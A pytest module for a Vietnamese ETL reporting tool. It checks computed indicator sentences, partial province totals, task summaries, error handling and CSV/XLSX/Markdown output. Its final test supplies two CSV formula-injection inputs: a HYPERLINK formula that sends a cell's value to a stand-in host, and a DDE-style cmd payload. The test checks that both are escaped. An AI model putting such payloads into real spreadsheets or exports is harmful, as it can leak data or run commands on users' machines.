"""`baocao report` against a real warehouse: figures computed by hand from the submissions below.

Vĩnh Phúc (26) has 9 districts; Tam Dương (247) reports January-June of 2023 and 2024 and has a
2024 plan, Vĩnh Yên (243) reports January-June 2024 only and plans NS01. The other 7 districts
send nothing, so the province's totals are partial (2/9)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy import Engine, create_engine, text
from typer.testing import CliRunner

from etl.cli import app
from etl.marts.rollup import refresh
from etl.reporting.csv_report import render_csv
from etl.reporting.markdown_report import render_markdown
from etl.reporting.model import Report, build_report
from etl.reporting.xlsx_report import write_xlsx
from etl.warehouse.ingest import ingest_paths
from tests import builders as b
from tests.conftest import empty_warehouse

TAM_DUONG, VINH_YEN, VINH_PHUC = "247", "243", "26"


_task = b.task


# Status at the end of June 2024: A on time, B late, C in progress, D overdue, E on time; F standing.
JUNE_TASKS = [
    _task("A", "UBND tỉnh", "Hoàn thành", "31/03/2024", "20/03/2024"),
    _task("B", "UBND tỉnh", "Hoàn thành", "31/03/2024", "10/04/2024"),
    _task("C", "UBND tỉnh", "Đang thực hiện", "31/12/2024"),
    _task("D", "UBND tỉnh", "Đang thực hiện", "31/05/2024"),
    _task("E", "UBND tỉnh", "Hoàn thành", "30/06/2024", "01/06/2024"),
    _task("F", "Huyện ủy", "Đang thực hiện", None),
]


@pytest.fixture(scope="module")
def warehouse(engine: Engine, tmp_path_factory: pytest.TempPathFactory) -> Engine:
    """Built once for the module (about 40 files); starts from an empty warehouse like `db`."""
    empty_warehouse(engine)
    folder = tmp_path_factory.mktemp("report")
    docs = []
    for m in range(1, 7):
        # 2023: pigs 80.000 in June; revenue 8.000 a month and 10.000 in June (H1 50.000); poverty 100/1000.
        docs.append(b.month(TAM_DUONG, f"2023-{m:02d}", {"NN05": 70000 + 2000 * (m - 1) if m < 6 else 80000,
                                                        "NS01": 10000 if m == 6 else 8000, "XH01": 100, "XH02": 1000}))
        # 2024: pigs 92.000 in June; revenue 5 x 10.000 + 11.250,5 = 61.250,5; poverty 80/1000.
        docs.append(b.month(TAM_DUONG, f"2024-{m:02d}", {"NN05": 85000 if m < 6 else 92000,
                                                        "NS01": "11.250,5" if m == 6 else 10000, "XH01": 80,
                                                        "XH02": 1000}, JUNE_TASKS if m == 6 else None))
        docs.append(b.month(VINH_YEN, f"2024-{m:02d}", {"NN05": 8000, "NS01": 5000, "XH01": 20, "XH02": 2000}))
    docs.append(b.plan(district=TAM_DUONG, ke_hoach=[
        {"ma_chi_tieu": "NS01", "don_vi_tinh": "triệu đồng", "ke_hoach_nam": 122501},
        {"ma_chi_tieu": "NN05", "don_vi_tinh": "nghìn con", "ke_hoach_nam": 80},
        {"ma_chi_tieu": "XH03", "don_vi_tinh": "%", "ke_hoach_nam": "8,5"},
    ]))
    docs.append(b.plan(district=VINH_YEN, ke_hoach=[{"ma_chi_tieu": "NS01", "don_vi_tinh": "tỷ đồng",
                                                     "ke_hoach_nam": 60}]))
    paths = [b.write_json(folder / f"{i:02d}.json", doc) for i, doc in enumerate(docs)]
    results = ingest_paths(engine, paths)
    assert [r.status for r in results if not r.status.startswith("accepted")] == [], [r.errors for r in results]
    refresh(engine, full=True)
    return engine


def sentence(report: Report, code: str) -> str:
    [line] = [i for i in report.indicators if i.code == code]
    return line.sentence


# --- sentences ----------------------------------------------------------------------------


def test_district_half_year_sentences(warehouse: Engine) -> None:
    r = build_report(warehouse, TAM_DUONG, "2024-H1")
    assert r.title == "Báo cáo 6 tháng đầu năm 2024 — Huyện Tam Dương"
    assert (r.level, r.completeness) == ("district", None)
    assert [i.code for i in r.indicators] == ["NS01", "NN05", "XH01", "XH02", "XH03"]  # catalog order
    # 92.000 / 80.000 = +15 %; 92.000 / 80.000 (plan 80 nghìn con) = 115 %
    assert sentence(r, "NN05") == "Tổng đàn lợn 92.000 con, tăng 15% so với cùng kỳ; đạt 115% kế hoạch năm"
    # 8 % against 10 %: 2 points down; the target is a ceiling (lower is better) and 8 <= 8,5
    # Issue 17: "điểm phần trăm", never "điểm %".
    assert sentence(r, "XH03") == "Tỷ lệ hộ nghèo 8%, giảm 2 điểm phần trăm so với cùng kỳ; đạt kế hoạch (≤ 8,5%)"
    # 61.250,5 against 50.000: +22,501 % -> 22,5 %; 61.250,5 / 122.501 = 50 %. Issue 17: a thousand
    # triệu đồng and more in tỷ đồng, as the seeds write it (61.250,5 triệu = 61,25 tỷ đồng).
    assert sentence(r, "NS01") == ("Thu ngân sách nhà nước trên địa bàn 61,25 tỷ đồng, tăng 22,5% so với "
                                   "cùng kỳ; đạt 50% kế hoạch năm")
    assert sentence(r, "XH01") == "Số hộ nghèo 80 hộ, giảm 20% so với cùng kỳ"
    assert sentence(r, "XH02") == "Tổng số hộ dân cư 1.000 hộ, bằng cùng kỳ"


def test_without_last_year_there_is_no_comparison_and_plan_only_when_planned(warehouse: Engine) -> None:
    r = build_report(warehouse, VINH_YEN, "2024-H1")
    assert r.title == "Báo cáo 6 tháng đầu năm 2024 — Thành phố Vĩnh Yên"
    # 6 x 5.000 = 30.000 of a 60 tỷ đồng = 60.000 triệu đồng plan
    assert sentence(r, "NS01") == "Thu ngân sách nhà nước trên địa bàn 30 tỷ đồng, đạt 50% kế hoạch năm"
    assert sentence(r, "NN05") == "Tổng đàn lợn 8.000 con"
    assert sentence(r, "XH03") == "Tỷ lệ hộ nghèo 1%"  # 20 / 2.000


def test_monthly_report_adds_the_year_to_date_for_flows(warehouse: Engine) -> None:
    r = build_report(warehouse, TAM_DUONG, "2024-06")
    assert r.title == "Báo cáo tháng 06/2024 — Huyện Tam Dương"
    # June: 11.250,5 against 10.000 = +12,505 % (rounded half up: 12,51); YTD 61.250,5 = 50 % of 122.501.
    # Issue 17: the year to date compares with last year's year to date (50.000: +22,5 %), the month
    # with the same month; amounts in tỷ đồng.
    assert sentence(r, "NS01") == ("Thu ngân sách nhà nước trên địa bàn 11,25 tỷ đồng, tăng 12,51% so với "
                                   "cùng tháng năm trước; lũy kế từ đầu năm 61,25 tỷ đồng, tăng 22,5% so với cùng kỳ, "
                                   "đạt 50% kế hoạch năm")
    # a stock has no year to date
    assert sentence(r, "NN05") == "Tổng đàn lợn 92.000 con, tăng 15% so với cùng kỳ; đạt 115% kế hoạch năm"
    may = build_report(warehouse, TAM_DUONG, "2024-05")
    assert sentence(may, "NN05") == ("Tổng đàn lợn 85.000 con, tăng 8,97% so với cùng kỳ; "  # 85/78 = 1,08974
                                     "đạt 106,25% kế hoạch năm")  # 85/80


def test_province_total_is_marked_partial_with_the_districts_it_comes_from(warehouse: Engine) -> None:
    r = build_report(warehouse, VINH_PHUC, "2024-H1")  # two digits: the legacy province by default
    assert r.level == "province"
    assert r.title == "Báo cáo 6 tháng đầu năm 2024 — Tỉnh Vĩnh Phúc"
    # Issue 17: the units by their types ("huyện, thành phố", not "huyện" for all); those that did not send
    # every month named.
    assert r.completeness == ("Số liệu tổng hợp từ 2/9 huyện, thành phố (chưa đầy đủ); chưa gửi đủ báo cáo các "
                              "tháng trong kỳ: Thành phố Phúc Yên, Huyện Lập Thạch, Huyện Tam Đảo, Huyện Bình Xuyên, "
                              "Huyện Yên Lạc, Huyện Vĩnh Tường, Huyện Sông Lô")
    # 61.250,5 + 30.000 = 91.250,5 against 50.000 (+82,501 %); plans 122.501 + 60.000 = 182.501 (50 %)
    # ... and the +82,5 % compares two districts with one (Vĩnh Yên sent nothing in 2023): marked
    # (**) and said once, in a footnote (issue 17)
    assert sentence(r, "NS01") == ("Thu ngân sách nhà nước trên địa bàn 91,25 tỷ đồng, tăng 82,5% so với "
                                   "cùng kỳ; đạt 50% kế hoạch năm (*tổng hợp từ 2/9 huyện, thành phố) (**)")
    # 92.000 + 8.000 against 80.000; only Tam Dương planned pigs (80.000). Issue 10 (plan coverage):
    # this said "đạt 125% kế hoạch năm", both districts' herds against Tam Dương's plan alone; the
    # plan now covers 1 of the 2 districts in the total, so no % is given and the sentence says so.
    assert sentence(r, "NN05") == ("Tổng đàn lợn 100.000 con, tăng 25% so với cùng kỳ; kế hoạch năm 80.000 con "
                                   "(kế hoạch của 1/2 đơn vị) (*tổng hợp từ 2/9 huyện, thành phố) (**)")
    # (80 + 20) / (1.000 + 2.000) = 3,333 %; 10 % a year earlier: -6,667 points; no plan for a province rate
    assert sentence(r, "XH03") == ("Tỷ lệ hộ nghèo 3,33%, giảm 6,67 điểm phần trăm so với cùng kỳ "
                                   "(*tổng hợp từ 2/9 huyện, thành phố) (**)")
    assert all(i.partial for i in r.indicators)
    assert r.footnotes == [
        "(*) Số liệu chưa đầy đủ: chỉ tổng hợp được từ số huyện, thành phố có đủ số liệu của kỳ (cột Số đơn vị)",
        "(**) Cùng kỳ năm trước chưa đầy đủ (tổng hợp từ 1/9 huyện, thành phố): so sánh không cùng phạm vi, cần "
        "thận trọng khi sử dụng (NS01, NN05, XH01, XH02, XH03)"]


def test_province_2025_must_be_asked_for(warehouse: Engine) -> None:
    # 25 is legacy Phú Thọ (no data here) and also the 2025 Phú Thọ that now contains Vĩnh Phúc.
    with pytest.raises(ValueError, match="không có số liệu của Tỉnh Phú Thọ"):
        build_report(warehouse, "25", "2024-H1")
    merged = build_report(warehouse, "25", "2024-H1", level="province_2025")
    assert merged.title == "Báo cáo 6 tháng đầu năm 2024 — Tỉnh Phú Thọ (địa giới từ 1/7/2025)"
    assert merged.completeness is not None and merged.completeness.startswith("Số liệu tổng hợp từ 2/")
    assert "Tổng đàn lợn 100.000 con" in sentence(merged, "NN05")


def test_an_incomplete_district_year_is_marked(warehouse: Engine) -> None:
    r = build_report(warehouse, TAM_DUONG, "2024")  # only January-June reported
    assert r.title == "Báo cáo năm 2024 — Huyện Tam Dương"
    # 2023 had January-June too: the comparison is with an incomplete year as well
    # Issue 17: the last-year note once, in the footnotes, not on every line.
    assert sentence(r, "NS01").endswith("(*chưa đủ số liệu các tháng trong kỳ) (**)")
    assert r.footnotes == [
        "(*) Số liệu chưa đầy đủ: huyện chưa báo cáo đủ các tháng của kỳ",
        "(**) Cùng kỳ năm trước chưa đầy đủ (chưa đủ số liệu các tháng): so sánh không cùng phạm vi, cần thận "
        "trọng khi sử dụng (NS01, NN05, XH01, XH02, XH03)"]
    assert r.partial_note == "\n".join(r.footnotes)


def test_task_summary_per_assigning_body(warehouse: Engine) -> None:
    r = build_report(warehouse, TAM_DUONG, "2024-H1")
    # Issue 17: no "0 hoàn thành ..." but "không có nhiệm vụ quá hạn"; the on-time rate over the
    # tasks due (A, B, D, E: C and F are still in time), no longer over every task (2/6).
    assert r.task_sentences == [
        "UBND tỉnh giao 05 nhiệm vụ, 02 hoàn thành đúng hạn, 01 hoàn thành quá hạn, 01 đang thực hiện trong hạn, "
        "01 quá hạn",
        "Huyện ủy giao 01 nhiệm vụ, 01 đang thực hiện trong hạn, không có nhiệm vụ quá hạn",
        "Tổng cộng 06 nhiệm vụ, 02 hoàn thành đúng hạn, 01 hoàn thành quá hạn, 02 đang thực hiện trong hạn, "
        "01 quá hạn; tỷ lệ hoàn thành đúng hạn 50% (02/04 nhiệm vụ đã đến hạn)",  # 2 / 4
    ]
    assert r.task_total is not None and r.task_total.on_time_rate == Decimal("50")
    assert [t.on_time_rate for t in r.tasks] == [Decimal("50"), None]  # 2/4; Huyện ủy: none due
    # The province counts the same tasks (only Tam Dương reported any).
    assert build_report(warehouse, VINH_PHUC, "2024-H1").task_sentences == r.task_sentences


def test_report_reads_the_mart_only(warehouse: Engine, warehouse_url: str) -> None:
    """As the analysts' read-only role, which cannot read raw, staging, core or ops."""
    analyst = create_engine(warehouse_url, connect_args={"options": "-c role=baocao_analyst"})
    try:
        with analyst.connect() as conn:
            assert conn.execute(text("SELECT current_user")).scalar() == "baocao_analyst"
        as_analyst = build_report(analyst, VINH_PHUC, "2024-H1")
    finally:
        analyst.dispose()
    assert as_analyst == build_report(warehouse, VINH_PHUC, "2024-H1")


# --- errors -------------------------------------------------------------------------------


def test_unknown_unit_period_without_data_and_bad_input_are_clear_errors(warehouse: Engine) -> None:
    with pytest.raises(ValueError, match=r"không có đơn vị mã '999'.* / no unit with code '999'"):
        build_report(warehouse, "999", "2024-H1")
    with pytest.raises(ValueError, match=r"mã này có ở cấp khác: --level province \(Tỉnh Vĩnh Phúc\)"):
        build_report(warehouse, VINH_PHUC, "2024", level="province_2025")
    no_data = r"không có số liệu của Huyện Tam Dương .* tháng 07/2024: .* / no figures for 247"
    with pytest.raises(ValueError, match=no_data):
        build_report(warehouse, TAM_DUONG, "2024-07")
    for bad in ("2024-13", "2024-H3", "24-06", "2024/06"):
        with pytest.raises(ValueError, match=r"kỳ báo cáo .* không hợp lệ"):
            build_report(warehouse, TAM_DUONG, bad)
    with pytest.raises(ValueError, match="cấp 'ward' không hợp lệ"):
        build_report(warehouse, TAM_DUONG, "2024", level="ward")
    # commune is a level since the 2025 reform; 247 is a district's code, not a commune's.
    with pytest.raises(ValueError, match=r"ở cấp xã; mã này có ở cấp khác: --level district \(Huyện Tam Dương\)"):
        build_report(warehouse, TAM_DUONG, "2024", level="commune")


# --- formats ------------------------------------------------------------------------------


def test_markdown_has_the_lines_and_the_tables(warehouse: Engine) -> None:
    md = render_markdown(build_report(warehouse, TAM_DUONG, "2024-H1"))
    lines = md.splitlines()
    assert lines[0] == "# Báo cáo 6 tháng đầu năm 2024 — Huyện Tam Dương"
    assert "- Tổng đàn lợn 92.000 con, tăng 15% so với cùng kỳ; đạt 115% kế hoạch năm." in lines
    assert "| NN05 | Tổng đàn lợn | con | 92.000 | 80.000 | 115% | 80.000 | +15% |" in lines
    assert "| XH03 | Tỷ lệ hộ nghèo | % | 8 | 8,5 |  | 10 | -2 điểm phần trăm |" in lines
    assert "| **Tổng cộng** | **6** | **2** | **1** | **2** | **1** | **50%** |" in lines
    province = render_markdown(build_report(warehouse, VINH_PHUC, "2024-H1")).splitlines()
    assert any(line.startswith("- Số liệu tổng hợp từ 2/9 huyện, thành phố (chưa đầy đủ); chưa gửi đủ báo cáo")
               for line in province)
    assert "| NS01 | Thu ngân sách nhà nước trên địa bàn | triệu đồng | 91.250,5* | 182.501 | 50% | 50.000 | " \
           "+82,5% | 2/9 |" in province


def test_csv_has_a_bom_and_parses(warehouse: Engine) -> None:
    out = render_csv(build_report(warehouse, VINH_PHUC, "2024-06"))
    assert out.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(out.removeprefix("\ufeff"))))
    assert rows[0] == ["Báo cáo tháng 06/2024 — Tỉnh Vĩnh Phúc"]
    # Issue 17: "Số đơn vị" (huyện and thành phố); the partial flags in columns of their own, at the end.
    header = rows.index(["Mã", "Chỉ tiêu", "ĐVT", "Thực hiện", "Lũy kế năm", "KH năm", "% KH năm",
                         "Cùng kỳ năm trước", "So với cùng kỳ", "Số đơn vị", "Nhận định", "Chưa đầy đủ",
                         "Cùng kỳ chưa đầy đủ"])
    by_code = {r[0]: r for r in rows[header + 1:] if r and r[0] in ("NS01", "NN05")}
    # June: 11.250,5 + 5.000 against 10.000 (Tam Dương alone in 2023): +62,505 % -> 62,51 %. The
    # partial figure stays a number (no '*' inside it): the flag is in "Chưa đầy đủ".
    assert by_code["NS01"][:10] == ["NS01", "Thu ngân sách nhà nước trên địa bàn", "triệu đồng", "16.250,5",
                                    "91.250,5", "182.501", "50%", "10.000", "+62,51%", "2/9"]
    assert by_code["NS01"][11:] == ["*", "**"]
    assert by_code["NN05"][10].startswith("Tổng đàn lợn 100.000 con, tăng 25% so với cùng kỳ")
    tasks = rows.index(["Cơ quan giao", "Tổng số", "Hoàn thành đúng hạn", "Hoàn thành quá hạn",
                        "Đang thực hiện trong hạn", "Quá hạn", "Tỷ lệ đúng hạn", "Tóm tắt"])
    assert rows[tasks + 1][:7] == ["UBND tỉnh", "5", "2", "1", "1", "1", "50%"]  # over the 4 due
    assert rows[tasks + 3][:7] == ["Tổng cộng", "6", "2", "1", "2", "1", "50%"]


def test_xlsx_has_both_sheets_with_numbers(warehouse: Engine, tmp_path: Path) -> None:
    path = tmp_path / "r.xlsx"
    write_xlsx(build_report(warehouse, TAM_DUONG, "2024-06"), path)
    wb = CalamineWorkbook.from_path(str(path))
    assert wb.sheet_names == ["Chỉ tiêu", "Nhiệm vụ", "Nhận định"]  # issue 17: the sentences on a sheet too
    indicators = wb.get_sheet_by_name("Chỉ tiêu").to_python()
    assert indicators[0][0] == "Báo cáo tháng 06/2024 — Huyện Tam Dương"
    header = next(i for i, row in enumerate(indicators) if row[0] == "Mã")
    # Issue 17: the two changes say which is % and which is "điểm phần trăm".
    assert indicators[header][:10] == ["Mã", "Chỉ tiêu", "ĐVT", "Thực hiện", "Lũy kế năm", "KH năm", "% KH năm",
                                       "Cùng kỳ năm trước", "So với cùng kỳ: tăng (+), giảm (-) (%)",
                                       "So với cùng kỳ: tăng (+), giảm (-) (điểm phần trăm)"]
    rows = {row[0]: row for row in indicators[header + 1:] if row[0]}
    assert rows["NS01"][3:9] == [11250.5, 61250.5, 122501, 50, 10000, 12.51]
    assert rows["XH03"][3] == 8 and rows["XH03"][9] == -2 and rows["XH03"][6] == ""
    assert rows["NN05"][-1] == "Tổng đàn lợn 92.000 con, tăng 15% so với cùng kỳ; đạt 115% kế hoạch năm"
    tasks = wb.get_sheet_by_name("Nhiệm vụ").to_python()
    body = {row[0]: row for row in tasks if row[0] in ("UBND tỉnh", "Huyện ủy", "Tổng cộng")}
    assert body["UBND tỉnh"][1:7] == [5, 2, 1, 1, 1, 50]  # issue 17: over the 4 tasks due
    assert body["Tổng cộng"][1:7] == [6, 2, 1, 2, 1, 50]
    # numeric cells display with exactly their decimals, in the Vietnamese locale (0x042A); changes signed
    sheet = openpyxl.load_workbook(path)["Chỉ tiêu"]
    ns01 = next(r for r in sheet.iter_rows(min_row=header + 2) if r[0].value == "NS01")
    assert [ns01[3].number_format, ns01[5].number_format, ns01[8].number_format] == [
        "[$-42A]#,##0.0", "[$-42A]#,##0", "[$-42A]+#,##0.00;[$-42A]-#,##0.00;0"]


# --- command line -------------------------------------------------------------------------


@pytest.fixture
def cli(warehouse: Engine, cli_runner: CliRunner) -> CliRunner:
    return cli_runner


def test_cli_report_in_each_format(cli: CliRunner, tmp_path: Path) -> None:
    result = cli.invoke(app, ["report", "--unit", TAM_DUONG, "--period", "2024-H1"])
    assert result.exit_code == 0, result.output
    assert "- Thu ngân sách nhà nước trên địa bàn 61,25 tỷ đồng, tăng 22,5% so với cùng kỳ; đạt 50% kế " \
           "hoạch năm." in result.stdout

    out = tmp_path / "r.csv"
    result = cli.invoke(app, ["report", "--unit", VINH_PHUC, "--period", "2024-H1", "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw and b"\r\r\n" not in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    [complete] = [r for r in rows if r and r[0] == "Mức đầy đủ"]
    assert complete[1].startswith("Số liệu tổng hợp từ 2/9 huyện, thành phố (chưa đầy đủ); chưa gửi đủ báo cáo")

    xlsx = tmp_path / "r.xlsx"
    result = cli.invoke(app, ["report", "--unit", "25", "--level", "province_2025", "--period", "2024",
                              "--format", "xlsx", "-o", str(xlsx)])
    assert result.exit_code == 0, result.output
    assert CalamineWorkbook.from_path(str(xlsx)).sheet_names == ["Chỉ tiêu", "Nhiệm vụ", "Nhận định"]


def test_cli_report_errors_exit_2(cli: CliRunner) -> None:
    result = cli.invoke(app, ["report", "--unit", "999", "--period", "2024-H1"])
    assert result.exit_code == 2
    assert "không có đơn vị mã '999'" in result.stderr and result.stdout == ""
    result = cli.invoke(app, ["report", "--unit", TAM_DUONG, "--period", "2024-H1", "--format", "xlsx"])
    assert result.exit_code == 2 and "-o FILE" in result.stderr
    result = cli.invoke(app, ["report", "--unit", TAM_DUONG, "--period", "2024-H1", "--format", "pdf"])
    assert result.exit_code == 2 and "pdf" in result.stderr


def test_csv_text_from_a_file_never_runs_as_a_formula(warehouse: Engine, tmp_path: Path) -> None:
    """Assigning bodies are kept as the district wrote them (TASK_BODY_UNKNOWN): one written as a
    formula is text in the CSV (a leading '), while the numbers, negative ones too, stay numbers.
    Chư Pưh (Gia Lai): the Vĩnh Phúc figures above are untouched."""
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    tasks = [_task("X1", hyperlink, "Đang thực hiện", "31/12/2024"), _task("X2", "@SUM(1+1)*cmd|' /C calc'!A0",
                                                                         "Đang thực hiện", None)]
    doc = b.month(b.CHU_PUH, "2024-06", {"NN05": 100}, tasks)
    [result] = ingest_paths(warehouse, [b.write_json(tmp_path / "chupuh.json", doc)])
    assert result.status == "accepted_with_warnings", result.errors
    refresh(warehouse)
    rows = list(csv.reader(io.StringIO(render_csv(build_report(warehouse, b.CHU_PUH, "2024-06")).lstrip("\ufeff"))))
    bodies = {r[0]: r for r in rows[rows.index(["Cơ quan giao", *rows[rows.index(["II. Nhiệm vụ"]) + 1][1:]]) + 1:]
              if r}
    assert bodies["'" + hyperlink][1:3] == ["1", "0"]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in bodies
    assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)
    # a negative change, written as text in Vietnamese notation, is still a number
    tam_duong = list(csv.reader(io.StringIO(render_csv(build_report(warehouse, TAM_DUONG, "2024-06")))))
    [xh03] = [r for r in tam_duong if r and r[0] == "XH03"]
    assert xh03[8] == "-2 điểm phần trăm"
